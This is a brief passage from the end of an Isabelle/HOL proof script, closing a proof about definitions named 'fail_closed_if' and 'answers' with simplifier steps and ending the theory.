    by (simp add: fail_closed_if_def answers_def)
  then show ?thesis by (simp add: answers_def)
qed

end
